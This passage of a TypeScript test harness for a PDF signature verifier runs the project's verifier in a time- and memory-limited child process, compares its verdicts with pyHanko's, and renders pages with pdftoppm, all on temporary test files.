    const e = error instanceof Error ? error : new Error(String(error));
    return {
      valid: false,
      threw: `${e.name}: ${e.message}`,
      structureError: e.name === 'PdfStructureError' || e.name === 'PdfLimitError',
      ms: elapsed,
      signatures: [],
    };
  }
}

/**
 * Our verdict from a child process, for cost cases: killed after `seconds`, its peak resident
 * memory (VmHWM) sampled from /proc while it runs, so that a case that takes gigabytes neither
 * stops the test run nor hides its cost.
 */
export async function ourVerdictInChild(pdf: Buffer, seconds: number): Promise<OurVerdict> {
  const dir = scratch();
  const input = join(dir, 'in.pdf');
  writeFileSync(input, pdf);
  const code = `require(${JSON.stringify(__filename)}).judgeFileAndPrint(process.argv.slice(1))`;
  const child = spawn(process.execPath, ['--require', 'tsx/cjs', '-e', code, input, ...trustFiles()], {
    cwd: join(__dirname, '..', '..'),
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let peakKb = 0;
  const sample = (): void => {
    try {
      const hwm = /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${child.pid}/status`, 'utf8'));
      peakKb = Math.max(peakKb, Number(hwm?.[1] ?? 0));
    } catch {
      // gone already: its own peak is in its answer
    }
  };
  const sampling = setInterval(sample, 50);
  let killed = false;
  const deadline = setTimeout(() => {
    sample();
    killed = true;
    child.kill('SIGKILL');
  }, seconds * 1000);
  let out = '';
  let err = '';
  child.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
  child.stderr.on('data', (chunk: Buffer) => (err += chunk.toString()));
  const status = await new Promise<number | null>((resolve) => child.on('close', resolve));
  clearInterval(sampling);
  clearTimeout(deadline);
  rmSync(dir, { recursive: true });
  const line = out.trim().split('\n').at(-1);
  if (!killed && status === 0 && line) {
    const verdict = JSON.parse(line) as OurVerdict & { maxRssKb: number };
    return { ...verdict, peakRssMb: Math.max(peakKb, verdict.maxRssKb) / 1024 };
  }
  // Killed is no answer and no exception: the time limit reports it.
  return {
    valid: false,
    threw: killed ? null : `child failed (${status}): ${err.slice(-300)}`,
    structureError: false,
    ms: seconds * 1000,
    signatures: [],
    peakRssMb: peakKb / 1024,
    ...(killed ? { killedAfterS: seconds } : {}),
  };
}

/** The child's side of {@link ourVerdictInChild}: `FILE TRUST...`, one JSON line out. */
export async function judgeFileAndPrint([file, ...trust]: string[]): Promise<void> {
  const verdict = await ourVerdict(readFileSync(file!), ourVerifier(trust));
  // VmHWM, not resourceUsage().maxRSS: Linux carries maxRSS over an exec, so a child spawned by a
  // large test process would report its parent's size.
  const maxRssKb = Number(/VmHWM:\s+(\d+) kB/.exec(readFileSync('/proc/self/status', 'utf8'))?.[1] ?? 0);
  process.stdout.write(`${JSON.stringify({ ...verdict, maxRssKb })}\n`);
}

// ---------------------------------------------------------------------------------------------
// pyHanko, as a signer and as a judge

const scratch = (): string => mkdtempSync(join(tmpdir(), 'manifiesta-attacks-'));
const ATTACKS_HELPER = join(__dirname, 'pyhanko-attacks.py');

/** Runs pyHanko with `args(input, output)` on `pdf` and returns what it wrote. */
function throughPyhanko(pdf: Buffer, args: (input: string, output: string) => string[]): Buffer {
  const dir = scratch();
  const [input, output] = [join(dir, 'in.pdf'), join(dir, 'out.pdf')];
  try {
    writeFileSync(input, pdf);
    execFileSync(pyhankoPython(), args(input, output), { stdio: 'pipe' });
    return readFileSync(output);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** pyHanko's CLI `sign addsig` into `field` (an existing name, or `PAGE/x1,y1,x2,y2/NAME`). */
export function pyhankoSign(pdf: Buffer, field: string, party: Party): Buffer {
  const chain = signingFixtures().intermediate.certPath;
  return throughPyhanko(pdf, (input, output) => [
    PYHANKO_HELPER,
    '--cli',
    'sign',
    'addsig',
    '--field',
    field,
    'pemder',
    '--key',
    party.keyPath,
    '--cert',
    party.certPath,
    '--chain',
    chain,
    '--no-pass',
    input,
    output,
  ]);
}

/** A /DSS for `field`'s signature, by pyHanko's add_validation_info with the test CRLs. */
function pyhankoLtv(pdf: Buffer, field: string): Buffer {
  const f = signingFixtures();
  return throughPyhanko(pdf, (input, output) => [
    ATTACKS_HELPER,
    'ltv',
    f.root.certPath,
    field,
    input,
    output,
    `cert:${f.intermediate.certPath}`,
    `crl:${f.crlPath}`,
    `crl:${f.rootCrlPath}`,
  ]);
}

let tsaParty: Party | undefined;

/** A time-stamping certificate under the test intermediate (EKU timeStamping, critical). */
function timestampAuthority(): Party {
  const f = signingFixtures();
  tsaParty ??= f.pki.issue(
    'tsa-attacks',
    { name: 'Sellos de Tiempo de Pruebas manifiesta' },
    f.intermediate,
    {
      keyUsage: { digitalSignature: true },
      extKeyUsage: { timeStamping: true, critical: true },
    },
  );
  return tsaParty;
}

/** A document time-stamp by pyHanko's in-process TSA, signed with `tsa`'s key. */
function pyhankoTimestamp(pdf: Buffer, tsa: Party): Buffer {
  const chain = signingFixtures().intermediate.certPath;
  return throughPyhanko(pdf, (input, output) => [
    ATTACKS_HELPER,
    'timestamp',
    tsa.certPath,
    tsa.keyPath,
    input,
    output,
    chain,
  ]);
}

export interface PyhankoSignatureVerdict {
  readonly field: string;
  readonly valid: boolean;
  readonly summary: string;
  readonly coverage: string | null;
  readonly modifications: string | null;
}

export interface PyhankoVerdict {
  /** At least one signature, all valid, and no error. */
  readonly valid: boolean;
  readonly signatures: readonly PyhankoSignatureVerdict[];
  readonly error: string | null;
  readonly ms: number;
}

/** pyHanko's verdict on each case, in one Python process; a file over `seconds` is a timeout. */
export async function pyhankoVerdicts(
  cases: readonly Pick<CorpusCase, 'name' | 'pdf'>[],
  root: Pick<Party, 'certPath'>,
  seconds: number,
): Promise<Map<string, PyhankoVerdict>> {
  const dir = scratch();
  const files = cases.map((c) => {
    const file = join(dir, `${c.name}.pdf`);
    writeFileSync(file, c.pdf);
    return file;
  });
  let stdout: string;
  let failure = '';
  try {
    ({ stdout } = await run(
      pyhankoPython(),
      [ATTACKS_HELPER, 'validate', root.certPath, String(seconds), ...files],
      { maxBuffer: 16 * 1024 * 1024 },
    ));
  } catch (error) {
    // The process died (e.g. out of memory): the files before it have their lines.
    const e = error as { stdout?: string; message?: string };
    stdout = e.stdout ?? '';
    failure = e.message?.slice(-200) ?? String(error);
  } finally {
    rmSync(dir, { recursive: true });
  }
  const lines = stdout.trim().split('\n').filter(Boolean);
  const verdicts = new Map<string, PyhankoVerdict>();
  cases.forEach((c, i) => {
    const line = lines[i];
    const v = line
      ? (JSON.parse(line) as Omit<PyhankoVerdict, 'valid'>)
      : { signatures: [], error: `pyHanko exited: ${failure}`, ms: 0 };
    verdicts.set(c.name, {
      ...v,
      valid: v.error === null && v.signatures.length > 0 && v.signatures.every((s) => s.valid),
    });
  });
  return verdicts;
}

// ---------------------------------------------------------------------------------------------
// poppler's drawing

/** Every page as a PNG at 30 dpi, or the error poppler gave. */
export type Rendering = { readonly pages: readonly Buffer[] } | { readonly error: string };

const run = promisify(execFile);

/** Draws `pdf` with `pdftoppm -r 30 -png` (20 s at most). */
export async function renderPages(pdf: Buffer): Promise<Rendering> {
  const dir = scratch();
  try {
    writeFileSync(join(dir, 'in.pdf'), pdf);
    await run('pdftoppm', ['-r', '30', '-png', join(dir, 'in.pdf'), join(dir, 'page')], { timeout: 20_000 });
    const pages = readdirSync(dir)
      .filter((name) => name.startsWith('page'))
      .sort()
      .map((name) => readFileSync(join(dir, name)));
    return pages.length > 0 ? { pages } : { error: 'no page drawn' };
  } catch (error) {
    return { error: error instanceof Error ? error.message.split('\n')[0]! : String(error) };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

export function sameRendering(a: Rendering, b: Rendering): boolean {
  if (!('pages' in a) || !('pages' in b)) return false;
  return a.pages.length === b.pages.length && a.pages.every((page, i) => page.equals(b.pages[i]!));
}

async function inBatches<T, R>(
  items: readonly T[],
  size: number,
  work: (item: T) => Promise<R>,
): Promise<R[]> {
  const results: R[] = [];
  for (let i = 0; i < items.length; i += size)
    results.push(...(await Promise.all(items.slice(i, i + size).map(work))));
  return results;
}
